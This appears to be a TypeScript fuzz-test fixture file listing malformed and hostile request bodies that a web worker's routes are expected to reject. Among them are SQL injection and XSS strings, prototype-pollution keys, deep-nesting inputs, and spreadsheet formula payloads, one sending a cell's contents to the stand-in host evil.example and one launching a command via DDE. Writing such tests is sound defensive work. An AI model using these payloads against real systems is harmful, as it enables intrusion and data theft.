// The bad inputs of tests/worker/fuzz.test.ts. No body here can be a valid request by accident:
// each is malformed, not a JSON object, sent as another content type, over a size limit, or an
// object carrying a wrongly typed "version" (a field several routes have) or keys no route knows,
// which every strict schema refuses.
export const SQL = "'; drop table cards; --";
export const SCRIPT = '<script>alert(1)</script>';
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
export const THAI_MARKS = 'ก' + '\u0e49\u0e4a\u0e31'.repeat(700);
export const ZERO_WIDTH = '\u200b\u200c\u200d\u2060\ufeff';
export const NUL = 'a\u0000b';

const json = (value: unknown) => JSON.stringify(value);
const deep = (n: number) => '{"version":' + '['.repeat(n) + ']'.repeat(n) + '}';
const deepObject = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);

/** Bodies no route may accept: [family, raw body, content type]. */
export function badBodies(): [string, string | Uint8Array, string][] {
  const j = 'application/json';
  return [
    ['malformed json', '{', j],
    ['malformed json', '{"version":1,}', j],
    ['malformed json', "{'version':1}", j],
    ['malformed json', '{"version":1', j],
    ['malformed json', '{"a":1}{"b":2}', j],
    ['malformed json', 'NaN', j],
    ['malformed json', '', j],
    ['malformed json', '\u0000', j],
    ['malformed json', new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]), j],
    ['not an object', '[]', j],
    ['not an object', '[{"version":1}]', j],
    ['not an object', '"text"', j],
    ['not an object', '42', j],
    ['not an object', 'null', j],
    ['not an object', 'true', j],
    ['wrong types', json({ version: '1' }), j],
    ['wrong types', json({ version: 1.5, title: 42, details: [], dueOn: 20240101 }), j],
    ['wrong types', json({ version: null, toColumnId: 7, afterCardId: [], beforeCardId: {} }), j],
    ['wrong types', json({ version: true, email: 1, password: [], text: {}, body: 5, url: 5, note: 1, oitCode: 2 }), j],
    ['wrong types', json({ version: {}, nameTh: [], labelTh: false, role: 7, groupId: 1, beYear: '2568', toBeYear: 'x', publicPage: 'yes' }), j],
    ['missing fields', json({ version: 'x' }), j],
    ['missing fields', json({ afterCardId: null, version: '' }), j],
    ['extra fields', '{"version":"1","isAdmin":true,"role":"admin","orgId":"other","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}', j],
    ['extra fields', json({ unexpected: 'field' }), j],
    // Under the 64 KB limit, so the schema (not the size check) must refuse it.
    ['huge string', json({ version: '1', title: 'ก'.repeat(6_000), details: 'x'.repeat(40_000) }), j],
    ['thai marks & zero-width', json({ version: '1', title: THAI_MARKS, details: ZERO_WIDTH, body: ZERO_WIDTH + THAI_MARKS }), j],
    ['thai marks & zero-width', json({ ['vers' + ZERO_WIDTH + 'ion']: 1, ['title\u200b']: 'x' }), j],
    ['sql', json({ version: SQL, title: SQL, email: "a@b.co' or '1'='1", id: '1 OR 1=1', nameTh: SQL, body: SQL }), j],
    ['html/script', json({ version: '1', title: SCRIPT, details: '<img src=x onerror=alert(1)>', body: '</textarea><svg onload=alert(1)>', url: 'javascript:alert(1)' }), j],
    ['formula', json({ version: '1', title: FORMULA, details: "+cmd|' /C calc'!A0", body: '@SUM(1+1)', note: '-2+3', nameTh: FORMULA }), j],
    ['null bytes', json({ version: '1\u0000', title: NUL, '\u0000': 'x', url: 'https://a.b/\u0000' }), j],
    ['deep nesting', deep(20_000), j],
    ['deep nesting', deepObject(5_000), j],
    ['content type', json({ version: '1' }), 'application/x-www-form-urlencoded'],
    ['content type', 'version=1&title=x', 'application/x-www-form-urlencoded'],
    ['content type', json({ version: '1' }), 'text/plain'],
    ['content type', json({ version: '1' }), 'application/json; charset=utf-16'],
  ];
}

/** Over the limits: 64 KB everywhere, 1 MB for announcement imports. */
export function hugeBodies(): [string, string | (() => ReadableStream), string][] {
  const j = 'application/json';
  return [
    ['huge body > 64 KB', json({ version: '1', title: 'x'.repeat(70 * 1024) }), j],
    ['huge body > 1 MB', json({ version: '1', text: 'ก'.repeat(400 * 1024) }), j],
    ['huge body, streamed without length', () => stream(3 * 1024 * 1024), j],
  ];
}

function stream(bytes: number): ReadableStream {
  const chunk = new TextEncoder().encode('{"version":"1","title":"' + 'x'.repeat(64 * 1024));
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      if (sent >= bytes) return controller.close();
      controller.enqueue(chunk);
      sent += chunk.length;
    },
    cancel() {
      // The server stopped reading at its limit: that is the point.
    },
  });
}

export const FAKE_VALUES = [
  SQL,
  SCRIPT,
  FORMULA,
  'x'.repeat(65),
  'y'.repeat(3000),
  NUL,
  ZERO_WIDTH,
  THAI_MARKS.slice(0, 40),
  '..',
  '-1',
  '0',
  '1e999',
  'NaN',
  'null',
  '{}',
  '2599',
];
